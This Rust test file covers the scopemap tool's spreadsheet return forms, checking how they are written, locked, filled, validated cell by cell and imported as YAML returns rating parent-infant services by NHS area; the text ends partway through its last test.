//! Spreadsheet return forms: writing them, filling them in and importing them back.
//!
//! Filled forms are made with `scopemap::forms::write_form` and a `FormFill`: rust_xlsxwriter
//! cannot edit a workbook, so a filled form is the same form written again with the values
//! typed into its unlocked cells, exactly where a person would type them. The tests read
//! the blank forms with calamine first, to find which category sits in which row, as a
//! person reading the sheet would.

mod common;

use calamine::{Data, Reader, SheetVisible, Xlsx, open_workbook};
use scopemap::commands::check_data;
use scopemap::diag::Severity;
use scopemap::forms::{
    FORM_FORMAT_VERSION, FilledFormula, FilledRating, FormFill, import_forms, import_forms_with,
    render_outcome, write_form, write_forms,
};
use scopemap::model::Dataset;
use std::path::{Path, PathBuf};

fn shipped_root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The shipped `scoping-data/` copied into a temp folder, so imports cannot touch it.
fn shipped_copy() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    common::copy_dir(
        &shipped_root().join("scoping-data"),
        &dir.path().join("scoping-data"),
    );
    dir
}

fn load(root: &Path) -> Dataset {
    let (ds, diagnostics) = check_data(root);
    assert!(
        diagnostics.iter().all(|d| !d.is_error()),
        "fixture has errors: {diagnostics:?}"
    );
    ds
}

fn cell(path: &Path, sheet: &str, row: u32, col: u32) -> String {
    let mut wb: Xlsx<_> = open_workbook(path).expect("open form");
    let range = wb.worksheet_range(sheet).expect("sheet");
    match range.get_value((row, col)) {
        Some(Data::String(s)) => s.clone(),
        Some(Data::Empty) | None => String::new(),
        Some(other) => other.to_string(),
    }
}

/// (row, category id) of every rating row of a form, read from column A.
fn rating_rows(path: &Path) -> Vec<(u32, String)> {
    let mut wb: Xlsx<_> = open_workbook(path).expect("open form");
    let range = wb.worksheet_range("Ratings").expect("Ratings sheet");
    (5..range.end().map(|(r, _)| r + 1).unwrap_or(0))
        .filter_map(|row| match range.get_value((row, 0)) {
            Some(Data::String(id)) => Some((row, id.clone())),
            _ => None,
        })
        .collect()
}

/// A fill that rates every row, cycling through the codes.
fn fill_all(path: &Path) -> FormFill {
    let codes = ["G", "A", "R", "B"];
    let mut fill = FormFill::default();
    for (i, (_, id)) in rating_rows(path).into_iter().enumerate() {
        fill.ratings.insert(
            id,
            FilledRating {
                rating: codes[i % codes.len()].to_string(),
                note: None,
            },
        );
    }
    fill
}

fn errors(outcome: &scopemap::forms::ImportOutcome) -> Vec<&scopemap::diag::Diagnostic> {
    outcome
        .diagnostics
        .iter()
        .filter(|d| d.severity == Severity::Error)
        .collect()
}

#[test]
fn forms_for_2023_show_the_ratings_of_the_ccgs_a_place_succeeds() {
    let ds = load(&shipped_root());
    let out = tempfile::tempdir().expect("temp dir");
    let files = write_forms(&ds, 2023, "cheshire-and-merseyside", out.path()).expect("forms");
    let region = ds.region("cheshire-and-merseyside").expect("region");
    assert_eq!(files.len(), region.areas_in(2023).len());
    assert!(
        files
            .iter()
            .all(|f| f.extension().is_some_and(|e| e == "xlsx"))
    );
    let sefton = out.path().join("2023-cheshire-and-merseyside-sefton.xlsx");
    assert!(files.contains(&sefton), "{files:?}");

    assert_eq!(
        cell(&sefton, "Ratings", 4, 3),
        "Last rating and note (2022)"
    );
    let rows = rating_rows(&sefton);
    let graded: Vec<String> = ds
        .framework()
        .expect("framework")
        .categories_in(2023)
        .iter()
        .map(|c| c.id.value.clone())
        .collect();
    let ids: Vec<String> = rows.iter().map(|(_, id)| id.clone()).collect();
    assert_eq!(ids, graded, "one row per category graded, framework order");

    let ret = |area: &str| {
        ds.returns
            .iter()
            .map(|r| &r.value)
            .find(|r| r.year.value == 2022 && r.area.value == area)
            .expect("2022 return")
    };
    for (row, id) in &rows {
        let south = ret("south-sefton-ccg").rating(id).expect("rated");
        let port = ret("southport-formby-ccg").rating(id).expect("rated");
        let expected = format!(
            "South Sefton: {}; Southport and Formby: {}",
            south.rating.value, port.rating.value
        );
        let shown = cell(&sefton, "Ratings", *row, 3);
        assert_eq!(shown.lines().next(), Some(expected.as_str()), "{id}");
        if let Some(note) = &south.note {
            assert!(shown.contains(&note.value), "{id}: {shown}");
        }
    }
    let (pimh_row, _) = rows
        .iter()
        .find(|(_, id)| id == "parent-infant-mh-service")
        .expect("row");
    assert!(
        cell(&sefton, "Ratings", *pimh_row, 3)
            .starts_with("South Sefton: A; Southport and Formby: A")
    );

    // The About sheet is very hidden and says what the form is; the workbook's structure is
    // locked, so it cannot be unhidden, and no sheet added, removed or renamed.
    let wb: Xlsx<_> = open_workbook(&sefton).expect("open");
    let names: Vec<(String, SheetVisible)> = wb
        .sheets_metadata()
        .iter()
        .map(|s| (s.name.clone(), s.visible))
        .collect();
    assert_eq!(
        names,
        vec![
            ("Instructions".into(), SheetVisible::Visible),
            ("Ratings".into(), SheetVisible::Visible),
            ("Services".into(), SheetVisible::Visible),
            ("About".into(), SheetVisible::VeryHidden),
        ]
    );
    let workbook_xml = part_text(&sefton, "xl/workbook.xml");
    assert!(
        workbook_xml.contains("/><workbookProtection lockStructure=\"1\"/><bookViews>"),
        "{workbook_xml}"
    );
    assert_eq!(workbook_xml.matches("<workbookProtection").count(), 1);
    for sheet in 1..=4 {
        let xml = part_text(&sefton, &format!("xl/worksheets/sheet{sheet}.xml"));
        assert!(xml.contains("<sheetProtection "), "sheet {sheet}");
    }
    assert_eq!(
        cell(&sefton, "About", 1, 1),
        FORM_FORMAT_VERSION.to_string()
    );
    assert_eq!(cell(&sefton, "About", 2, 1), "2023");
    assert_eq!(cell(&sefton, "About", 3, 1), "cheshire-and-merseyside");
    assert_eq!(cell(&sefton, "About", 4, 1), "sefton");

    // The instructions give the key and do not invent a deadline.
    let mut wb: Xlsx<_> = open_workbook(&sefton).expect("open");
    let text: String = wb
        .worksheet_range("Instructions")
        .expect("instructions")
        .cells()
        .map(|(_, _, v)| v.to_string() + "\n")
        .collect();
    assert!(text.contains("Full provision"), "{text}");
    assert!(
        !text.contains("When it is due") && !text.contains("form back by"),
        "no due date is set, so none is shown: {text}"
    );
}

#[test]
fn a_new_place_lists_each_ccg_it_succeeds_and_their_notes() {
    let dir = common::base_with("");
    let ds = load(dir.path());
    let out = tempfile::tempdir().expect("temp dir");
    let files = write_forms(&ds, 2023, "north", out.path()).expect("forms");
    assert_eq!(
        files,
        vec![out.path().join("2023-north-alphabeta.xlsx")],
        "only the Place is in use in 2023"
    );
    let rows = rating_rows(&files[0]);
    let (row, _) = rows
        .iter()
        .find(|(_, id)| id == "parent-infant")
        .expect("row");
    assert_eq!(
        cell(&files[0], "Ratings", *row, 3),
        "Alpha: A; Beta: R\nNote (Alpha): One small team."
    );
    // 2022 forms rate the CCGs, which have no earlier return.
    let files = write_forms(&ds, 2022, "north", out.path()).expect("2022 forms");
    assert_eq!(files.len(), 2);
    assert_eq!(cell(&files[0], "Ratings", 5, 3), "No earlier return");
}

#[test]
fn forms_are_byte_for_byte_the_same_each_time() {
    let ds = load(&shipped_root());
    let a = tempfile::tempdir().expect("temp dir");
    let b = tempfile::tempdir().expect("temp dir");
    let first = write_forms(&ds, 2023, "lancashire-and-south-cumbria", a.path()).expect("a");
    let second = write_forms(&ds, 2023, "lancashire-and-south-cumbria", b.path()).expect("b");
    assert_eq!(first.len(), second.len());
    for (x, y) in first.iter().zip(&second) {
        assert_eq!(
            std::fs::read(x).expect("read"),
            std::fs::read(y).expect("read")
        );
    }
}

#[test]
fn unknown_region_or_year_without_areas_is_refused() {
    let ds = load(&shipped_root());
    let out = tempfile::tempdir().expect("temp dir");
    let err = write_forms(&ds, 2023, "chesire-and-merseyside", out.path())
        .unwrap_err()
        .message;
    assert!(
        err.contains("did you mean `cheshire-and-merseyside`"),
        "{err}"
    );
    let err = write_forms(&ds, 2010, "cheshire-and-merseyside", out.path())
        .unwrap_err()
        .message;
    assert!(err.contains("no areas in use in 2010"), "{err}");
}

#[test]
fn a_filled_form_round_trips_into_a_yaml_return() {
    let dir = common::base_with("");
    let ds = load(dir.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let blank = &write_forms(&ds, 2023, "north", blanks.path()).expect("forms")[0];

    let awkward = [
        Some("Funding ends: March 2024 # not a comment".to_string()),
        Some("Two lines,\nwith \"quotes\", a back\\slash and ünïcödé ✓".to_string()),
        None,
    ];
    let mut fill = FormFill {
        compiled_by: Some("Jo O'Neill \"JO\"".into()),
        compiled_on: Some("2023-05-02".into()),
        services: vec![vec![
            "Little Steps".into(),
            "Alpha Council".into(),
            "Groups for parents".into(),
        ]],
        ..FormFill::default()
    };
    let codes = ["B", "G", "R"];
    for (i, (_, id)) in rating_rows(blank).into_iter().enumerate() {
        fill.ratings.insert(
            id,
            FilledRating {
                rating: codes[i % 3].into(),
                note: awkward[i % 3].clone(),
            },
        );
    }
    let filled =
        write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("filled form");

    let data_dir = dir.path().join("scoping-data");
    let outcome = import_forms(std::slice::from_ref(&filled), &data_dir, false);
    let target = data_dir.join("returns/2023/north/alphabeta.yaml");
    assert!(errors(&outcome).is_empty(), "{}", render_outcome(&outcome));
    assert_eq!(outcome.written, vec![target.clone()]);
    assert!(outcome.failed.is_empty());
    // A service the directory does not list is not imported, and the outcome says so.
    let warning = outcome
        .diagnostics
        .iter()
        .find(|d| d.code == "W086")
        .expect("services warning");
    assert!(
        warning
            .message
            .starts_with("Services!B6:N6: 1 service the directory does not list; import does not add services, so it was not saved"),
        "{}",
        warning.message
    );
    assert_eq!(warning.file, "2023-north-alphabeta.xlsx");

    // The return loads with the project's loader, passes its checks and says what was filled.
    let (ds, diagnostics) = check_data(dir.path());
    assert!(
        diagnostics.iter().all(|d| !d.is_error()),
        "{diagnostics:?}\n{}",
        std::fs::read_to_string(&target).unwrap_or_default()
    );
    let ret = ds
        .returns
        .iter()
        .map(|r| &r.value)
        .find(|r| r.year.value == 2023 && r.area.value == "alphabeta")
        .expect("imported return");
    assert_eq!(ret.region.value, "north");
    assert_eq!(ret.submission.status.value, "received");
    assert_eq!(
        ret.compiled_by.as_ref().map(|v| v.value.as_str()),
        fill.compiled_by.as_deref()
    );
    assert_eq!(
        ret.compiled_on.as_ref().map(|v| v.value.as_str()),
        Some("2023-05-02")
    );
    let got: Vec<(String, FilledRating)> = ret
        .ratings
        .iter()
        .map(|(k, v)| {
            (
                k.value.clone(),
                FilledRating {
                    rating: v.value.rating.value.clone(),
                    note: v.value.note.as_ref().map(|n| n.value.clone()),
                },
            )
        })
        .collect();
    let ids: Vec<String> = rating_rows(blank).into_iter().map(|(_, id)| id).collect();
    let want: Vec<(String, FilledRating)> = ids
        .iter()
        .map(|id| (id.clone(), fill.ratings[id].clone()))
        .collect();
    assert_eq!(got, want);

    // The next year's form shows the Place's own return, not its predecessors'.
    let next = write_forms(&ds, 2024, "north", blanks.path()).expect("2024 forms");
    assert_eq!(
        cell(&next[0], "Ratings", 4, 3),
        "Last rating and note (2023)"
    );
    let first = &want[0].1;
    let level = ds
        .framework()
        .and_then(|f| f.rating(&first.rating))
        .expect("level");
    let shown = cell(&next[0], "Ratings", 5, 3);
    assert!(
        shown.starts_with(&format!("{} ({})", first.rating, level.label.value)),
        "{shown}"
    );
}

#[test]
fn an_unknown_code_is_reported_at_its_cell_with_the_nearest_code() {
    let dir = common::base_with("");
    let ds = load(dir.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let blank = &write_forms(&ds, 2023, "north", blanks.path()).expect("forms")[0];
    let mut fill = fill_all(blank);
    let (row, id) = rating_rows(blank)
        .into_iter()
        .find(|(row, _)| *row == 6)
        .expect("a category in row 7");
    assert_eq!(row, 6);
    fill.ratings.insert(
        id.clone(),
        FilledRating {
            rating: "Y".into(),
            note: None,
        },
    );
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let filled = write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
    let data_dir = dir.path().join("scoping-data");
    let outcome = import_forms(std::slice::from_ref(&filled), &data_dir, false);

    let errs = errors(&outcome);
    assert_eq!(errs.len(), 1, "{}", render_outcome(&outcome));
    let d = errs[0];
    assert_eq!(d.code, "E010");
    assert_eq!(d.file, "2023-north-alphabeta.xlsx");
    assert!(
        d.message.starts_with("Ratings!E7: unknown rating code `Y`"),
        "{}",
        d.message
    );
    let help = d.help.as_deref().unwrap_or("");
    assert!(help.contains("`G` (Full provision)"), "{help}");
    assert!(
        d.expected
            .as_deref()
            .is_some_and(|e| e.contains("G (Full provision)"))
    );
    let text = render_outcome(&outcome);
    assert!(
        text.contains("error[E010]: Ratings!E7: unknown rating code `Y`"),
        "{text}"
    );
    assert!(text.contains("--> 2023-north-alphabeta.xlsx"), "{text}");
    assert!(outcome.written.is_empty());
    assert_eq!(outcome.failed, vec![filled]);
    assert!(!data_dir.join("returns/2023").exists(), "nothing written");
}

#[test]
fn words_and_lower_case_codes_are_understood() {
    let dir = common::base_with("");
    let ds = load(dir.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let blank = &write_forms(&ds, 2023, "north", blanks.path()).expect("forms")[0];
    let rows = rating_rows(blank);
    let mut fill = fill_all(blank);
    fill.ratings.get_mut(&rows[0].1).expect("row").rating = "a".into();
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let filled = write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
    let data_dir = dir.path().join("scoping-data");
    let outcome = import_forms(std::slice::from_ref(&filled), &data_dir, false);
    assert!(errors(&outcome).is_empty(), "{}", render_outcome(&outcome));
    let w = outcome
        .diagnostics
        .iter()
        .find(|d| d.code == "W011")
        .expect("lower case warning");
    assert!(
        w.message.starts_with("Ratings!E6: rating code `a`"),
        "{}",
        w.message
    );
    let yaml = std::fs::read_to_string(data_dir.join("returns/2023/north/alphabeta.yaml"))
        .expect("written");
    assert!(yaml.contains(&format!("  {}: \"A\"", rows[0].1)), "{yaml}");

    // Words and labels: an error naming the code meant.
    std::fs::remove_file(data_dir.join("returns/2023/north/alphabeta.yaml")).expect("rm");
    for (typed, meant) in [("green", "`G`"), ("No provision", "`R`"), ("G.", "`G`")] {
        fill.ratings.get_mut(&rows[0].1).expect("row").rating = typed.into();
        let filled =
            write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
        let outcome = import_forms(std::slice::from_ref(&filled), &data_dir, false);
        let errs = errors(&outcome);
        assert_eq!(errs.len(), 1, "{typed}: {}", render_outcome(&outcome));
        assert!(errs[0].message.starts_with("Ratings!E6:"));
        assert!(
            errs[0].help.as_deref().unwrap_or("").contains(meant),
            "{typed}: {:?}",
            errs[0].help
        );
    }
}

#[test]
fn missing_ratings_and_bad_dates_point_at_their_cells() {
    let dir = common::base_with("");
    let ds = load(dir.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let blank = &write_forms(&ds, 2023, "north", blanks.path()).expect("forms")[0];
    let rows = rating_rows(blank);
    let mut fill = fill_all(blank);
    fill.ratings.remove(&rows[2].1);
    fill.compiled_on = Some("02/05/2023".into());
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let filled = write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
    let outcome = import_forms(
        std::slice::from_ref(&filled),
        &dir.path().join("scoping-data"),
        false,
    );
    let errs = errors(&outcome);
    assert_eq!(errs.len(), 2, "{}", render_outcome(&outcome));
    assert!(errs.iter().any(|d| {
        d.code == "E012"
            && d.message
                .starts_with(&format!("Ratings!E{}: no rating", rows[2].0 + 1))
    }));
    let date = errs.iter().find(|d| d.code == "E028").expect("date error");
    assert!(date.message.starts_with("Ratings!C3:"), "{}", date.message);
    assert!(
        date.help.as_deref().unwrap_or("").contains("2023-05-02"),
        "{date:?}"
    );
}

fn formula(sheet: &str, row: u32, col: u16, formula: &str, result: &str) -> FilledFormula {
    FilledFormula {
        sheet: sheet.into(),
        row,
        col,
        formula: formula.into(),
        result: result.into(),
    }
}

#[test]
fn a_formula_in_any_cell_is_an_error_at_that_cell() {
    let dir = common::base_with("");
    let ds = load(dir.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let blank = &write_forms(&ds, 2023, "north", blanks.path()).expect("forms")[0];
    let rows = rating_rows(blank);
    let mut fill = fill_all(blank);
    fill.formulas = vec![
        // A rating typed as a formula whose cached value is a good code.
        formula("Ratings", rows[0].0, 4, "=\"G\"", "G"),
        // A note computed from another cell.
        formula("Ratings", rows[1].0, 5, "=D7&\" still\"", "A still"),
        // A formula in a cell import never reads.
        formula("Services", 6, 2, "=1+1", "2"),
    ];
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let filled = write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
    let data_dir = dir.path().join("scoping-data");
    let outcome = import_forms(std::slice::from_ref(&filled), &data_dir, false);
    let errs = errors(&outcome);
    let messages: Vec<&str> = errs.iter().map(|d| d.message.as_str()).collect();
    assert_eq!(
        messages,
        [
            format!(
                "Ratings!E{}: the cell holds the formula `=\"G\"`; type the value, not a formula",
                rows[0].0 + 1
            ),
            format!(
                "Ratings!F{}: the cell holds the formula `=D7&\" still\"`; type the value, not a formula",
                rows[1].0 + 1
            ),
            "Services!C7: the cell holds the formula `=1+1`; type the value, not a formula"
                .to_string(),
        ],
        "{}",
        render_outcome(&outcome)
    );
    assert!(
        errs.iter()
            .all(|d| d.code == "E180" && d.file == "2023-north-alphabeta.xlsx")
    );
    // Neither "no rating" nor the cached value: the formula is the one problem reported.
    assert!(outcome.written.is_empty());
    assert!(!data_dir.join("returns/2023/north/alphabeta.yaml").exists());
}

/// The part of a workbook at `name`, as text.
fn part_text(path: &Path, name: &str) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).expect("open")).expect("zip");
    let mut text = String::new();
    zip.by_name(name)
        .expect("part")
        .read_to_string(&mut text)
        .expect("read");
    text
}

/// The drop-down choices of each rating cell of a form, by cell (`E6`).
fn rating_choices(path: &Path) -> std::collections::BTreeMap<String, String> {
    let sheet = part_text(path, "xl/worksheets/sheet2.xml");
    sheet
        .split("<dataValidation ")
        .skip(1)
        .map(|v| {
            let between = |from: &str, to: &str| {
                let start = v.find(from).expect(from) + from.len();
                v[start..][..v[start..].find(to).expect(to)].to_string()
            };
            (
                between("sqref=\"", "\""),
                between("<formula1>", "</formula1>"),
            )
        })
        .collect()
}

#[test]
fn no_change_confirms_the_one_last_rating_and_is_not_offered_without_one() {
    let dir = shipped_copy();
    let ds = load(dir.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let lsc = "lancashire-and-south-cumbria";
    let fylde = write_form(
        &ds,
        2023,
        lsc,
        "fylde-coast",
        &FormFill::default(),
        blanks.path(),
    )
    .expect("form");
    let rows = rating_rows(&fylde);
    let mut choices = rating_choices(&fylde);
    choices.retain(|cell, _| cell.starts_with('E'));
    assert_eq!(choices.len(), rows.len(), "{choices:?}");
    let ret = |area: &str| {
        ds.returns
            .iter()
            .map(|r| &r.value)
            .find(|r| r.year.value == 2022 && r.area.value == area)
            .expect("2022 return")
    };
    let mut differing = Vec::new();
    for (row, id) in &rows {
        let list = &choices[&format!("E{}", row + 1)];
        let blackpool = &ret("blackpool-ccg").rating(id).expect("rated").rating.value;
        let wyre = &ret("fylde-wyre-ccg")
            .rating(id)
            .expect("rated")
            .rating
            .value;
        if blackpool == wyre {
            assert_eq!(list, "\"G,A,R,B,No change\"", "{id}");
        } else {
            assert_eq!(list, "\"G,A,R,B\"", "{id}: predecessors differ");
            differing.push((*row, id.clone()));
        }
    }
    assert!(differing.len() < rows.len(), "some rows agree and offer it");
    let (pimh_row, pimh) = differing
        .iter()
        .find(|(_, id)| id == "parent-infant-mh-service")
        .expect("Blackpool B, Fylde and Wyre R");

    // Halton: "No change" everywhere confirms Halton CCG's 2022 ratings.
    let cm = "cheshire-and-merseyside";
    let halton_blank =
        write_form(&ds, 2023, cm, "halton", &FormFill::default(), blanks.path()).expect("form");
    let mut fill = FormFill {
        compiled_on: Some("2023-05-02".into()),
        ..FormFill::default()
    };
    for (_, id) in rating_rows(&halton_blank) {
        let typed = if id == "health-visiting" {
            "no change "
        } else {
            "No change"
        };
        fill.ratings.insert(
            id,
            FilledRating {
                rating: typed.into(),
                note: None,
            },
        );
    }
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let halton = write_form(&ds, 2023, cm, "halton", &fill, filled_dir.path()).expect("form");
    let data_dir = dir.path().join("scoping-data");
    let outcome = import_forms(std::slice::from_ref(&halton), &data_dir, false);
    assert!(errors(&outcome).is_empty(), "{}", render_outcome(&outcome));
    let (after, _) = check_data(dir.path());
    let imported = after
        .returns
        .iter()
        .map(|r| &r.value)
        .find(|r| r.year.value == 2023 && r.area.value == "halton")
        .expect("imported");
    assert_eq!(imported.submission.status.value, "received");
    let codes = |r: &scopemap::model::Return| -> Vec<(String, String)> {
        r.ratings
            .iter()
            .map(|(k, e)| (k.value.clone(), e.value.rating.value.clone()))
            .collect()
    };
    assert_eq!(codes(imported), codes(ret("halton-ccg")));
    let summary = render_outcome(&outcome);
    assert!(
        summary.contains(
            "  Parent Infant MH Service: 2022: A in Halton -> A (no change, confirmed on the form)"
        ),
        "{summary}"
    );
    assert_eq!(
        outcome
            .changes
            .iter()
            .filter(|l| l.ends_with("(no change, confirmed on the form)"))
            .count(),
        codes(imported).len()
    );

    // Fylde Coast: "No change" where Blackpool and Fylde and Wyre differed is an error.
    let mut fill = FormFill::default();
    for (_, id) in &rows {
        fill.ratings.insert(
            id.clone(),
            FilledRating {
                rating: if id == pimh { "No change" } else { "A" }.into(),
                note: None,
            },
        );
    }
    let form = write_form(&ds, 2023, lsc, "fylde-coast", &fill, filled_dir.path()).expect("form");
    let outcome = import_forms(std::slice::from_ref(&form), &data_dir, false);
    let errs = errors(&outcome);
    assert_eq!(errs.len(), 1, "{}", render_outcome(&outcome));
    assert_eq!(errs[0].code, "E181");
    assert_eq!(
        errs[0].message,
        format!(
            "Ratings!E{}: “No change” for `Parent Infant MH Service`, but the area's predecessors were rated differently (2022: B in Blackpool, R in Fylde and Wyre), so there is no single last rating to confirm",
            pimh_row + 1
        )
    );
    assert!(outcome.written.is_empty());
}

#[test]
fn nothing_is_written_when_a_form_fails_unless_partial() {
    let dir = shipped_copy();
    let ds = load(dir.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let filled_dir = tempfile::tempdir().expect("temp dir");
    write_forms(&ds, 2023, "cheshire-and-merseyside", blanks.path()).expect("forms");
    let blank = |area: &str| {
        blanks
            .path()
            .join(format!("2023-cheshire-and-merseyside-{area}.xlsx"))
    };

    let good = write_form(
        &ds,
        2023,
        "cheshire-and-merseyside",
        "sefton",
        &fill_all(&blank("sefton")),
        filled_dir.path(),
    )
    .expect("good");
    let mut bad_fill = fill_all(&blank("halton"));
    let first = rating_rows(&blank("halton"))[0].1.clone();
    bad_fill.ratings.get_mut(&first).expect("row").rating = "Y".into();
    let bad = write_form(
        &ds,
        2023,
        "cheshire-and-merseyside",
        "halton",
        &bad_fill,
        filled_dir.path(),
    )
    .expect("bad");
    let data_dir = dir.path().join("scoping-data");
    let forms = vec![good.clone(), bad.clone()];

    let outcome = import_forms(&forms, &data_dir, false);
    assert!(outcome.written.is_empty());
    assert_eq!(outcome.failed, vec![bad.clone()]);
    assert!(!data_dir.join("returns/2023").exists());
    assert!(render_outcome(&outcome).contains("nothing was written"));

    let outcome = import_forms(&forms, &data_dir, true);
    let sefton = data_dir.join("returns/2023/cheshire-and-merseyside/sefton.yaml");
    assert_eq!(outcome.written, vec![sefton.clone()]);
    assert_eq!(outcome.failed, vec![bad]);
    assert!(sefton.is_file());
    assert!(
        !data_dir
            .join("returns/2023/cheshire-and-merseyside/halton.yaml")
            .exists()
    );
    let (_, diagnostics) = check_data(dir.path());
    assert!(diagnostics.iter().all(|d| !d.is_error()), "{diagnostics:?}");
}

#[test]
fn an_existing_return_is_never_overwritten() {
    let dir = common::base_with("");
    let ds = load(dir.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let data_dir = dir.path().join("scoping-data");

    // A 2022 form for an area whose 2022 return is already in the data.
    let forms_2022 = write_forms(&ds, 2022, "north", blanks.path()).expect("forms");
    let alpha = write_form(
        &ds,
        2022,
        "north",
        "alpha-ccg",
        &fill_all(&forms_2022[0]),
        filled_dir.path(),
    )
    .expect("filled");
    let existing = data_dir.join("returns/2022/north/alpha-ccg.yaml");
    let before = std::fs::read(&existing).expect("existing");
    let outcome = import_forms(std::slice::from_ref(&alpha), &data_dir, true);
    let errs = errors(&outcome);
    assert_eq!(errs.len(), 1, "{}", render_outcome(&outcome));
    assert_eq!(errs[0].code, "E083");
    assert!(
        errs[0].message.contains("already exists"),
        "{}",
        errs[0].message
    );
    assert_eq!(std::fs::read(&existing).expect("existing"), before);
    assert_eq!(outcome.failed, vec![alpha]);

    // Importing the same area twice: the second import is refused.
    let blank = &write_forms(&ds, 2023, "north", blanks.path()).expect("forms")[0];
    let mut fill = fill_all(blank);
    let form = write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
    let outcome = import_forms(std::slice::from_ref(&form), &data_dir, false);
    assert_eq!(outcome.written.len(), 1, "{}", render_outcome(&outcome));
    let written = std::fs::read(&outcome.written[0]).expect("written");
    for r in fill.ratings.values_mut() {
        r.rating = "R".into();
    }
    let form = write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
    let again = import_forms(std::slice::from_ref(&form), &data_dir, true);
    assert!(again.written.is_empty());
    assert!(errors(&again).iter().any(|d| d.code == "E083"));
    assert_eq!(std::fs::read(&outcome.written[0]).expect("kept"), written);

    // Two forms for one area in one import.
    std::fs::remove_file(&outcome.written[0]).expect("rm");
    let twice = import_forms(&[form.clone(), form], &data_dir, true);
    assert_eq!(twice.written.len(), 1);
    assert!(errors(&twice).iter().any(|d| d.code == "E084"));
}

/// A workbook with the given About values and a Ratings sheet, to imitate damaged forms.
fn fake_form(path: &Path, about: &[(&str, &str)]) {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ratings = wb.add_worksheet();
    ratings.set_name("Ratings").expect("name");
    if !about.is_empty() {
        let sheet = wb.add_worksheet();
        sheet.set_name("About").expect("name");
        for (row, (k, v)) in about.iter().enumerate() {
            sheet.write_string(row as u32, 0, *k).expect("key");
            sheet.write_string(row as u32, 1, *v).expect("value");
        }
    }
    wb.save(path).expect("save");
}

#[test]
fn forms_that_are_not_forms_or_not_for_this_data_are_refused() {
    let dir = common::base_with("");
    let data_dir = dir.path().join("scoping-data");
    let work = tempfile::tempdir().expect("temp dir");
    let p = |name: &str| work.path().join(name);
    let form = |version: &str, year: &str, region: &str, area: &str| {
        vec![
            ("form", "scopemap scoping return form"),
            ("format_version", version),
            ("year", year),
            ("region", region),
            ("area", area),
        ]
        .into_iter()
        .map(|(k, v)| (k, v.to_string()))
        .collect::<Vec<_>>()
    };
    let write = |name: &str, values: Vec<(&str, String)>| {
        let pairs: Vec<(&str, &str)> = values.iter().map(|(k, v)| (*k, v.as_str())).collect();
        fake_form(&p(name), &pairs);
        p(name)
    };

    std::fs::write(p("garbage.xlsx"), b"this is not a zip file").expect("write");
    let cases: Vec<(PathBuf, &str, &str)> = vec![
        (p("garbage.xlsx"), "E080", "cannot read the workbook"),
        (p("missing.xlsx"), "E080", "cannot read the workbook"),
        (write("plain.xlsx", vec![]), "E081", "no `About` sheet"),
        (
            write("v4.xlsx", form("4", "2023", "north", "alphabeta")),
            "E082",
            "About!B2: the form is format version 4 (made by a newer scopemap); this scopemap reads versions 1 to 3",
        ),
        (
            write("region.xlsx", form("1", "2023", "nort", "alphabeta")),
            "E017",
            "About!B4: unknown region `nort`",
        ),
        (
            write("area.xlsx", form("1", "2023", "north", "gamma")),
            "E017",
            "About!B5: unknown area `gamma`",
        ),
        (
            write("old.xlsx", form("1", "2023", "north", "alpha-ccg")),
            "E016",
            "About!B5: area `alpha-ccg` is not in use in 2023",
        ),
    ];
    let files: Vec<PathBuf> = cases.iter().map(|(f, _, _)| f.clone()).collect();
    let outcome = import_forms(&files, &data_dir, true);
    assert!(outcome.written.is_empty());
    assert_eq!(outcome.failed, files);
    for (file, code, message) in &cases {
        let name = file
            .file_name()
            .expect("name")
            .to_string_lossy()
            .to_string();
        assert!(
            outcome
                .diagnostics
                .iter()
                .any(|d| d.file == name && d.code == *code && d.message.contains(message)),
            "{name}: expected {code} `{message}` in\n{}",
            render_outcome(&outcome)
        );
    }
    let old = outcome
        .diagnostics
        .iter()
        .find(|d| d.file == "old.xlsx" && d.code == "E016")
        .expect("E016");
    assert!(
        old.help.as_deref().unwrap_or("").contains("Alphabeta"),
        "{old:?}"
    );
    let region = outcome
        .diagnostics
        .iter()
        .find(|d| d.file == "region.xlsx")
        .expect("E017");
    assert!(region.help.as_deref().unwrap_or("").contains("`north`"));
}

#[test]
fn an_area_of_another_region_is_named_with_both_cells() {
    let dir = shipped_copy();
    let work = tempfile::tempdir().expect("temp dir");
    let path = work.path().join("swapped.xlsx");
    fake_form(
        &path,
        &[
            ("form", "scopemap scoping return form"),
            ("format_version", &FORM_FORMAT_VERSION.to_string()),
            ("year", "2023"),
            ("region", "cheshire-and-merseyside"),
            ("area", "fylde-coast"),
        ],
    );
    let outcome = import_forms(
        std::slice::from_ref(&path),
        &dir.path().join("scoping-data"),
        false,
    );
    let errs = errors(&outcome);
    let swapped = errs
        .iter()
        .find(|d| d.code == "E182")
        .unwrap_or_else(|| panic!("{}", render_outcome(&outcome)));
    assert_eq!(
        swapped.message,
        "About!B5: area `fylde-coast` (Fylde Coast) is in region `lancashire-and-south-cumbria`, but About!B4 says region `cheshire-and-merseyside`"
    );
